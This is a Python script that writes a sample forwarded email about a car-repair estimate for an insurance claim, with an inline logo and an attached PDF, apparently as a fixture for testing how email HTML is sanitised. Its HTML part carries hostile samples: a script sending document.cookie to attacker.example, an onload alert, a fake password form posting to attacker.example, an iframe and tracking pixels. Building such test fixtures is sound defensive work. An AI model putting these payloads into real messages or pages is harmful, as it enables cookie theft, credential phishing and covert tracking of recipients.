"""Writes the sample forwarded email (argv[3]) with the logo (argv[1]) inline and a PDF (argv[2]) attached."""
import sys
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from datetime import datetime, timezone

logo, pdf, out = sys.argv[1:4]
msg = EmailMessage()
msg["From"] = "Tomasz Kowalczyk <tomasz.k@example.net>"
msg["To"] = "claims@insurer.example"
msg["Cc"] = "Northgate Brokers <service@northgate.example>"
msg["Subject"] = "Fwd: Repair estimate for CLM-1007"
msg["Date"] = format_datetime(datetime(2026, 3, 13, 8, 45, tzinfo=timezone.utc))
msg["Message-ID"] = "<estimate-clm-1007@example.net>"
msg.set_content(
    "Hello,\n\nplease find the garage's estimate below and the claim form attached.\n\n"
    "Front bumper: replace, GBP 412.00\nBonnet: repair and paint, GBP 286.50\n\nRegards,\nTomasz\n"
)
logo_cid = make_msgid(domain="example.net")
msg.add_alternative(
    f"""<html><head><style>body {{ background: url(https://tracker.example/bg.png) }}</style>
<script>fetch('https://attacker.example/steal?c=' + document.cookie)</script></head>
<body onload="alert('owned')">
<p><img src="cid:{logo_cid[1:-1]}" alt="Garage logo" width="120"></p>
<p>Hello,</p><p>please find the garage's estimate below and the claim form attached.</p>
<table border="1"><tr><th>Part</th><th>Work</th><th>Cost</th></tr>
<tr><td>Front bumper</td><td>Replace</td><td>GBP 412.00</td></tr>
<tr><td>Bonnet</td><td>Repair and paint</td><td>GBP 286.50</td></tr></table>
<p style="background-image: url('https://tracker.example/row.png')">See the <a href="https://garage.example/estimate/1007">estimate online</a>.</p>
<form action="https://attacker.example/login" method="post"><input name="password" type="password"><button>Verify your account</button></form>
<img src="https://tracker.example/open.gif?id=clm-1007" width="1" height="1" alt="">
<img src="https://garage.example/banner.jpg" alt="Garage banner">
<iframe src="https://attacker.example/frame"></iframe>
<p>Regards,<br>Tomasz</p></body></html>""",
    subtype="html",
)
with open(logo, "rb") as f:
    msg.get_payload()[1].add_related(f.read(), "image", "png", cid=logo_cid, filename="logo.png")
with open(pdf, "rb") as f:
    msg.add_attachment(f.read(), maintype="application", subtype="pdf", filename="claim-form.pdf")
with open(out, "wb") as f:
    f.write(bytes(msg))
